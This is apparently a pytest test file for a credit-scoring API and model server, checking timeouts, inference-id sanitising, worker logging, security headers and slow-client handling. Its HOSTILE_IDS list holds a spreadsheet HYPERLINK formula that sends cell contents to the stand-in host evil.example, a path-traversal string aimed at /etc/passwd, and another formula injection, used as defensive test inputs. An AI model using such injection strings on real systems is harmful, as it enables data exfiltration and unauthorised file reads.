"""Issue 32, points 2 to 5, over real HTTP: deadlines per attempt and per request, the
inference id in a safe shape, the model server's logs with any number of workers, security
headers and unread answers cut off."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import runtime_client, wait_for_ping
from credit_explainer_tools.local import LocalStack, handler_environment
from credit_explainer_tools.local.gateway import LambdaEnvironment, make_app
from credit_explainer_tools.local.stack import ModelServer, ServerThread
from credit_schema import FEATURES
from fault_server import Fault, FaultServer
from test_hardening import leave_mid_body

APPLICANT: dict[str, Any] = {
    "RevolvingUtilizationOfUnsecuredLines": 0.3,
    "age": 45,
    "NumberOfTime30-59DaysPastDueNotWorse": 0,
    "DebtRatio": 0.35,
    "MonthlyIncome": 5400.0,
    "NumberOfOpenCreditLinesAndLoans": 8,
    "NumberOfTimes90DaysLate": 0,
    "NumberRealEstateLoansOrLines": 1,
    "NumberOfTime60-89DaysPastDueNotWorse": 0,
    "NumberOfDependents": 2,
}
assert set(APPLICANT) == set(FEATURES)

#: A model that sends its headers, then a byte every 0.3 s: each read well within any timeout.
TRICKLE = Fault("trickle", trickle=0.3)
#: The function's timeouts in these tests: an attempt may take 1 + 2 s.
FAST = {"SAGEMAKER_CONNECT_TIMEOUT": "1", "SAGEMAKER_READ_TIMEOUT": "2"}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# -- 2. a deadline per attempt and per request --------------------------------------------------


def test_a_trickling_model_gets_the_apis_504_at_the_attempts_deadline() -> None:
    """Before: every read came within the read timeout, so the function read on (the answer
    is ~2 KB: ten minutes) and the caller got API Gateway's bare 504 at 29 s."""
    with FaultServer() as model:
        model.inject(TRICKLE)
        with LocalStack(model_url=model.url, environment=FAST) as stack:
            started = time.monotonic()
            response = httpx.post(f"{stack.api_url}/score", json=APPLICANT, timeout=60)
            elapsed = time.monotonic() - started
        model.clear()
    print(f"504 after {elapsed:.2f} s")
    assert response.status_code == 504, response.text
    assert response.json()["error"]["code"] == "model_timeout"
    assert 2.5 <= elapsed < 6.0, elapsed  # connect + read timeouts from the attempt's start


def test_health_answers_while_a_score_waits_on_a_trickling_model() -> None:
    """Before: the one invocation at a time stayed on the trickle for minutes; /health and every
    later /score got API Gateway's 504 after 29 s."""
    with FaultServer() as model:
        model.inject(TRICKLE)
        with (
            LocalStack(model_url=model.url, environment=FAST) as stack,
            ThreadPoolExecutor(2) as pool,
        ):
            slow = pool.submit(httpx.post, f"{stack.api_url}/score", json=APPLICANT, timeout=60)
            time.sleep(0.3)
            started = time.monotonic()
            health = httpx.get(f"{stack.api_url}/health", timeout=60)
            waited = time.monotonic() - started
            model.clear()  # the model recovers: the next score is answered at once
            after = httpx.post(f"{stack.api_url}/score", json=APPLICANT, timeout=60)
            assert slow.result().status_code == 504
    print(f"/health answered after {waited:.2f} s")
    assert health.status_code == 200 and waited < 6.0, (health.status_code, waited)
    assert after.status_code == 200


def test_a_request_that_cannot_start_within_the_gateways_timeout_is_never_run() -> None:
    """A model that never sends its headers holds the one execution environment for a read
    timeout (5 s); requests queued behind it past the gateway's timeout (3 s) get its 504 and
    are dropped. Before: each ran after the one before it, minutes after its caller left."""
    with FaultServer() as model:
        model.inject(Fault("stall", delay=30.0))
        function = LambdaEnvironment(
            {
                **handler_environment(model.url),
                "SAGEMAKER_READ_TIMEOUT": "5",
                "SAGEMAKER_MAX_ATTEMPTS": "1",
            }
        )
        gateway = ServerThread(make_app(function, timeout=3.0), name="gateway")
        gateway.start()
        try:
            with ThreadPoolExecutor(4) as pool:
                answers = list(
                    pool.map(
                        lambda _: httpx.post(f"{gateway.url}/score", json=APPLICANT, timeout=30),
                        range(4),
                    )
                )
            time.sleep(6.0)  # the first has ended: anything queued would have run by now
        finally:
            gateway.stop()
            model.clear()
    assert [a.status_code for a in answers] == [504] * 4
    assert {a.json()["message"] for a in answers} == {"Endpoint request timed out"}
    assert model.calls["stall"] == 1, model.calls


# -- 3. the inference id ------------------------------------------------------------------------

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "../../../../etc/passwd", "@SUM(1+1)"]


def test_the_inference_id_is_kept_only_in_a_safe_shape(
    synthetic_model: Any, tmp_path: Path
) -> None:
    with ModelServer(synthetic_model, endpoint_name="ids", capture_dir=tmp_path) as server:
        runtime = runtime_client(server.url)
        for given in [*HOSTILE_IDS, "req-42.a:b_c"]:
            runtime.invoke_endpoint(
                EndpointName="ids",
                Body=json.dumps(APPLICANT),
                ContentType="application/json",
                InferenceId=given,
            )
    captured = [
        json.loads(line)["eventMetadata"]["inferenceId"]
        for path in tmp_path.rglob("*.jsonl")
        for line in path.read_text().splitlines()
    ]
    assert len(captured) == 4 and "req-42.a:b_c" in captured
    replaced = [c for c in captured if c != "req-42.a:b_c"]
    uuid = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
    assert all(uuid.fullmatch(c) for c in replaced), replaced  # the server's own request id
    text = "".join(p.read_text() for p in tmp_path.rglob("*.jsonl"))
    assert not any(h in text or json.dumps(h)[1:-1] in text for h in HOSTILE_IDS)


# -- 4. logs and the capture summary with any number of workers ----------------------------------


@pytest.mark.parametrize("workers", [1, 2])
def test_serve_model_logs_and_summarises_capture_with_any_number_of_workers(
    synthetic_model_dir: Path, tmp_path: Path, workers: int
) -> None:
    """Before: with --workers 2, no invocation, no disconnect and no capture summary line."""
    port = free_port()
    proc = subprocess.Popen(
        [
            *(sys.executable, "-m", "credit_explainer", "serve-model", "--workers", str(workers)),
            *("--model-dir", str(synthetic_model_dir), "--port", str(port), "--host", "127.0.0.1"),
            *("--capture-dir", str(tmp_path)),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_for_ping(url, proc, "serve-model")
        sent = 30
        for _ in range(sent):
            assert httpx.post(f"{url}/invocations", json=APPLICANT).status_code == 200
        for _ in range(3):
            leave_mid_body(url, "/invocations")
        time.sleep(0.5)
        proc.send_signal(signal.SIGTERM)
        output, _ = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert "Traceback" not in output
    assert output.count("status=200 kind=ok") == sent, output[-3000:]
    assert output.count("status=499 kind=client_disconnected") == 3, output[-3000:]
    summaries = re.findall(
        r"data capture closed: (\d+) record\(s\) written to .*, (\d+) dropped", output
    )
    assert len(summaries) == workers, output[-3000:]  # one per worker process
    assert sum(int(w) for w, _ in summaries) == sent and all(d == "0" for _, d in summaries)


def test_up_prints_the_capture_summary_when_it_stops(
    synthetic_model_dir: Path, tmp_path: Path
) -> None:
    """Before: the summary was logged where `up` had set up no logging: never seen."""
    api, model = free_port(), free_port()
    up = [sys.executable, "-m", "credit_explainer", "up", "--model-dir", str(synthetic_model_dir)]
    proc = subprocess.Popen(
        [
            *up,
            *("--port", str(api), "--model-port", str(model), "--capture-dir", str(tmp_path)),
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert proc.stdout is not None
        while "Ctrl-C stops both" not in proc.stdout.readline():  # both servers are up
            assert proc.poll() is None
        for _ in range(3):
            response = httpx.post(f"http://127.0.0.1:{api}/score", json=APPLICANT, timeout=30)
            assert response.status_code == 200
        proc.send_signal(signal.SIGINT)
        _, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, stderr
    assert re.search(r"data capture closed: 3 record\(s\) written to .*, 0 dropped", stderr), stderr


# -- 5. security headers and connections nobody reads ------------------------------------------

SECURITY = {"x-content-type-options": "nosniff", "x-frame-options": "DENY"}


@pytest.fixture(scope="module")
def stack(synthetic_model_dir: Path) -> Iterator[LocalStack]:
    with LocalStack(synthetic_model_dir) as running:
        yield running


def secured(response: httpx.Response) -> str:
    """The response's CSP, after checking it carries every security header, once."""
    for name, value in SECURITY.items():
        assert response.headers.get_list(name) == [value], (response.url, name)
    policies = response.headers.get_list("content-security-policy")
    assert len(policies) == 1 and "frame-ancestors 'none'" in policies[0], response.url
    return policies[0]


def test_every_answer_of_the_api_and_the_model_server_carries_the_security_headers(
    stack: LocalStack,
) -> None:
    key: dict[str, str] = {}
    api, model = stack.api_url, stack.model_url
    answers = [
        httpx.post(f"{api}/score", json=APPLICANT, headers=key),  # 200
        httpx.post(f"{api}/score", json={**APPLICANT, "age": -1}, headers=key),  # 422
        httpx.post(f"{api}/score", content=b"a=1", headers={**key, "content-type": "text/plain"}),
        httpx.get(f"{api}/health", headers=key),
        httpx.get(f"{api}/swagger?format=json", headers=key),
        httpx.put(f"{api}/score"),  # API Gateway's own 403
        httpx.get(f"{api}/nowhere"),  # API Gateway's 403
        httpx.get(f"{model}/ping"),
        httpx.post(f"{model}/invocations", json=APPLICANT),
        httpx.post(f"{model}/invocations", json={"age": "x"}),
        httpx.get(f"{model}/nowhere"),
        httpx.post(f"{model}/endpoints/nope/invocations", json=APPLICANT),
    ]
    assert [a.status_code for a in answers] == [
        200,
        422,
        415,
        200,
        200,
        403,
        403,
        200,
        200,
        422,
        404,
        400,
    ]
    for answer in answers:
        assert secured(answer).startswith("default-src 'none'")


def inline(page: str) -> list[tuple[str, str]]:
    return re.findall(r"<(script|style)>(.*?)</\1>", page, flags=re.DOTALL)


def test_the_swagger_page_has_a_policy_it_satisfies(stack: LocalStack, tmp_path: Path) -> None:
    import base64
    import hashlib
    import shutil

    page = httpx.get(f"{stack.api_url}/swagger")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    policy = secured(page)
    assert "'unsafe-inline'" not in policy and "'unsafe-eval'" not in policy
    blocks = inline(page.text)
    assert blocks and "<script src" not in page.text and "<link" not in page.text
    for kind, text in blocks:  # every inline block, and only those, is allowed by its hash
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        directive = next(d for d in policy.split(";") if d.strip().startswith(f"{kind}-src"))
        assert f"'sha256-{digest}'" in directive, kind
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is needed in CI (.ci/run installs it)")
        pytest.skip("no chromium here: apt-get install chromium")
    # The page as a browser gets it, under its own policy: Swagger UI renders the operations.
    url = f"{stack.api_url}/swagger"
    dom = subprocess.run(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=10000",
         "--dump-dom", url],
        check=True, capture_output=True, text=True, timeout=120,
    ).stdout  # fmt: skip
    assert "opblock" in dom and "/score" in dom, dom[:2000]


def unread(url: str, request: bytes, wait: float) -> tuple[int, int]:
    """Send ``request`` with a tiny receive buffer and read nothing for ``wait`` seconds; then
    read what comes. Returns (bytes of body announced, bytes received before the end)."""
    host, port = url.removeprefix("http://").split(":")
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((host, int(port)))
    with s:
        s.sendall(request)
        time.sleep(wait)
        s.settimeout(3.0)
        received = b""
        try:
            while chunk := s.recv(1 << 16):
                received += chunk
                if len(received) > 50_000_000:
                    break
        except (TimeoutError, ConnectionResetError):
            pass
    head, _, body = received.partition(b"\r\n\r\n")
    announced = re.search(rb"content-length: (\d+)", head, flags=re.IGNORECASE)
    return (int(announced[1]) if announced else -1), len(body)


def test_an_answer_nobody_reads_is_dropped_after_the_send_timeout(
    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An answer larger than the kernel's socket buffers (12 MB) to a client that reads
    nothing. Before: the server held the connection and the rest of the answer for as long as
    the client liked; now it drops them after SEND_TIMEOUT."""
    from credit_model import http_limits

    monkeypatch.setattr(http_limits, "SEND_TIMEOUT", 2.0)
    batch = json.dumps([APPLICANT] * 8000).encode()
    request = (
        b"POST /invocations HTTP/1.1\r\nHost: l\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(batch), batch)
    )
    announced, received = unread(stack.model_url, request, wait=6.0)
    assert announced > 8_000_000 and received < announced, (announced, received)


def test_an_idle_kept_alive_connection_is_closed_after_the_keep_alive_timeout(
    stack: LocalStack,
) -> None:
    from credit_model.http_limits import KEEP_ALIVE_TIMEOUT

    for url in (stack.api_url, stack.model_url):
        host, port = url.removeprefix("http://").split(":")
        with socket.create_connection((host, int(port)), timeout=KEEP_ALIVE_TIMEOUT + 3) as s:
            s.sendall(b"GET /ping HTTP/1.1\r\nHost: l\r\n\r\n")
            started = time.monotonic()
            while s.recv(1 << 16):
                pass
            assert time.monotonic() - started <= KEEP_ALIVE_TIMEOUT + 2
